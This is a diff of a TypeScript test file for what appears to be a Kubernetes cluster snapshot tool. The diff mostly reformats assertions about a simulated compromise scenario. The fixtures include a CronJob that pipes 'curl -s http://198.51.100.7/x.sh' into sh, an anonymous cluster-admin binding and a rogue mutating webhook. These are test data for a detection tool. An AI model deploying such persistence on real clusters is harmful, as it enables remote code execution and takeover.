@@ -99,7 +99,9 @@ function servedListableTypes(scenario: Scenario): Set<string> {
     const spec = crd['spec'] as { group: string; names: { plural: string } };
     out.add(`${spec.group}/${spec.names.plural}`);
   }
-  const aggregatedGroups = new Set(scenario.objects.filter((o) => o.kind === 'APIService' && (o['spec'] as { service?: unknown }).service).map((o) => (o['spec'] as { group: string }).group));
+  const aggregatedGroups = new Set(
+    scenario.objects.filter((o) => o.kind === 'APIService' && (o['spec'] as { service?: unknown }).service).map((o) => (o['spec'] as { group: string }).group),
+  );
   for (const r of AGGREGATED_RESOURCES) if (aggregatedGroups.has(r.group)) out.add(key({ group: r.group, resource: r.name }));
   return out;
 }
@@ -233,8 +235,14 @@ describe('snapshot of the compromise scenario', () => {
     expect(JSON.parse(byName('MutatingWebhookConfiguration', 'pod-sidecar-injector')['webhook_targets'] as string)).toEqual([
       'inject.sidecar.sys-tools.io url:https://198.51.100.7:8443/mutate failurePolicy=Ignore',
     ]);
-    expect(byName('ClusterRoleBinding', 'anonymous-admin')).toMatchObject({ role_ref: 'ClusterRole/cluster-admin', subjects: '["User:/system:anonymous","Group:/system:unauthenticated"]' });
-    expect(byName('CronJob', 'cleanup')).toMatchObject({ images: '["evil.example.io/tools:latest"]', detail: 'schedule "*/15 * * * *": /bin/sh -c curl -s http://198.51.100.7/x.sh | sh' });
+    expect(byName('ClusterRoleBinding', 'anonymous-admin')).toMatchObject({
+      role_ref: 'ClusterRole/cluster-admin',
+      subjects: '["User:/system:anonymous","Group:/system:unauthenticated"]',
+    });
+    expect(byName('CronJob', 'cleanup')).toMatchObject({
+      images: '["evil.example.io/tools:latest"]',
+      detail: 'schedule "*/15 * * * *": /bin/sh -c curl -s http://198.51.100.7/x.sh | sh',
+    });
     expect(byName('Deployment', 'api')).toMatchObject({ replicas: 2, service_account: 'api' });
     expect(byName('ClusterRole', 'view')['detail']).toContain('aggregates {"rbac.authorization.k8s.io/aggregate-to-view":"true"}');
     // Every row has exactly the table's columns.
@@ -259,7 +267,12 @@ describe('snapshot: options, failures and scale', () => {
       expect(typeOf(run, 'rbac.authorization.k8s.io/clusterrolebindings')).toMatchObject({ status: 'forbidden', count: 0 });
       expect(typeOf(run, 'rbac.authorization.k8s.io/clusterrolebindings')!.detail).toContain('cannot list resource "clusterrolebindings"');
       expect(typeOf(run, 'secrets')!.status).toBe('forbidden');
-      expect(run.gaps.filter((g) => g.reason === 'forbidden').map((g) => g.resource).sort()).toEqual(['rbac.authorization.k8s.io/clusterrolebindings', 'secrets']);
+      expect(
+        run.gaps
+          .filter((g) => g.reason === 'forbidden')
+          .map((g) => g.resource)
+          .sort(),
+      ).toEqual(['rbac.authorization.k8s.io/clusterrolebindings', 'secrets']);
       expect(typeOf(run, 'rbac.authorization.k8s.io/clusterroles')!.count).toBe(cluster.objectsOf('rbac.authorization.k8s.io/v1', 'ClusterRole').length);
       expect((run.coverage['typesForbidden'] as string[]).sort()).toEqual(['rbac.authorization.k8s.io/clusterrolebindings', 'secrets']);
     } finally {
@@ -268,7 +281,7 @@ describe('snapshot: options, failures and scale', () => {
   });
 
   test("configMapValues 'keep' copies values (the canary scan finds them), 'metadata' never fetches them", async () => {
-    const { cluster, kc } = shared;
+    const { kc } = shared;
     const keep = await collect(kc, { configMapValues: 'keep' });
     expect(scan(keep)).toEqual(['CANARY-CONFIGMAP-VALUE']);
     const meta = await collect(kc, { configMapValues: 'metadata' });
@@ -280,7 +293,7 @@ describe('snapshot: options, failures and scale', () => {
   });
 
   test('redactFields hashes chosen fields; exclusions are configurable', async () => {
-    const { cluster, kc } = shared;
+    const { kc } = shared;
     const run = await collect(kc, { redactFields: [{ resource: 'pods', paths: ['spec.containers[*].image'] }], exclude: ['events', 'events.k8s.io/events', 'apps/replicasets'] });
     const pod = run.raw.get('core_v1_pods')!.find((p) => p['metadata'].name === 'postgres-0')!;
     expect(pod['spec'].containers[0].image).toBe(`sha256:${createHash('sha256').update('postgres:16.3').digest('hex')}`);
@@ -292,16 +305,20 @@ describe('snapshot: options, failures and scale', () => {
     const { cluster, kc } = await start(undefined, { maxPageSize: 5 });
     try {
       let armed = false;
-      const run = await collect(kc, {}, {
-        concurrency: 1,
-        countRequest: () => {
-          const last = cluster.requestLog[cluster.requestLog.length - 1];
-          if (!armed && last?.path === '/api/v1/pods' && last.status === 200) {
-            armed = true;
-            cluster.faults.push({ match: /^GET \/api\/v1\/pods$/, status: 410, times: 1 });
-          }
+      const run = await collect(
+        kc,
+        {},
+        {
+          concurrency: 1,
+          countRequest: () => {
+            const last = cluster.requestLog[cluster.requestLog.length - 1];
+            if (!armed && last?.path === '/api/v1/pods' && last.status === 200) {
+              armed = true;
+              cluster.faults.push({ match: /^GET \/api\/v1\/pods$/, status: 410, times: 1 });
+            }
+          },
         },
-      });
+      );
       const pods = typeOf(run, 'pods')!;
       expect(pods.relists).toBe(1);
       expect(pods.count).toBe(cluster.objectsOf('v1', 'Pod').length);
@@ -395,7 +412,11 @@ describe('snapshot through the pipeline into a local bundle', () => {
       expect(rowsArtifact.table).toBe('kubesnapshot_CL');
       expect(rowsArtifact.records).toBe(raws.reduce((n, a) => n + a.records, 0));
       const coverage = (sealed.manifest.coverage?.['snapshot'] as { snapshot: { types: SnapshotTypeCoverage[] } }[])[0]!.snapshot;
-      expect(coverage.types.find((t) => t.resource === 'secrets')).toMatchObject({ status: 'listed', count: scenario.objects.filter((o) => o.kind === 'Secret').length, valueHandling: 'metadata-only' });
+      expect(coverage.types.find((t) => t.resource === 'secrets')).toMatchObject({
+        status: 'listed',
+        count: scenario.objects.filter((o) => o.kind === 'Secret').length,
+        valueHandling: 'metadata-only',
+      });
     } finally {
       await cluster.stop();
       await rm(dir, { recursive: true, force: true });
